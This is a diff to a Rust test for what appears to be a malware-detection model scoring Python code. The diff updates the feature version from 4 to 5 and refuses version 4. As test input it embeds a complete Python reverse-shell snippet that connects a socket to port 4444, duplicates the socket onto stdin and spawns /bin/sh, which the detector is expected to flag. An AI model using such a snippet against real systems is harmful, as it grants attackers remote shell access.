@@ -219,22 +219,22 @@ fn only_the_first_max_scan_bytes_count() {
     assert!(only_a <= 1 && only_b <= 1, "{only_a} {only_b}");
 }
 
-/// A model trained on the behaviour features (feature version 4) is scored with them and explains
+/// A model trained on the behaviour features (feature version 5) is scored with them and explains
 /// them; a lexical model (version 1) is scored without them, whatever its weights say; versions
 /// this build cannot extract (2, which read a wider window, and newer ones) are refused.
 #[test]
 fn behaviour_features_count_only_for_models_trained_with_them() {
     let bucket = python_model::behaviour_bucket("socket>dup2");
     let weights = [(bucket, 5.0f32)];
-    let v4 = Model::from_bytes(&python_model::encode_model(python_model::FEATURE_VERSION, "t", 0.5, 0.0, &weights)).unwrap();
+    let v5 = Model::from_bytes(&python_model::encode_model(python_model::FEATURE_VERSION, "t", 0.5, 0.0, &weights)).unwrap();
     let v1 = Model::from_bytes(&python_model::encode_model(python_model::LEXICAL_FEATURE_VERSION, "t", 0.5, 0.0, &weights)).unwrap();
     let shell = b"import socket,os,pty\ns=socket.socket()\ns.connect(('127.0.0.1',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n";
-    assert_eq!((v4.feature_version(), v1.feature_version()), (4, 1));
-    assert!(v4.score(shell) > 0.99, "{}", v4.score(shell));
+    assert_eq!((v5.feature_version(), v1.feature_version()), (5, 1));
+    assert!(v5.score(shell) > 0.99, "{}", v5.score(shell));
     assert!((v1.score(shell) - 0.5).abs() < 1e-6, "{}", v1.score(shell));
-    assert!(v4.explain(shell, 3).iter().any(|(f, c)| f == "beh:socket>dup2" && *c == 5.0), "{:?}", v4.explain(shell, 3));
+    assert!(v5.explain(shell, 3).iter().any(|(f, c)| f == "beh:socket>dup2" && *c == 5.0), "{:?}", v5.explain(shell, 3));
     assert!(v1.explain(shell, 3).is_empty());
-    for refused in [2, 3, python_model::FEATURE_VERSION + 1] {
+    for refused in [2, 3, 4, python_model::FEATURE_VERSION + 1] {
         let bytes = python_model::encode_model(refused, "t", 0.5, 0.0, &weights);
         assert!(matches!(Model::from_bytes(&bytes), Err(ModelError::FeatureVersion { .. })), "version {refused}");
     }
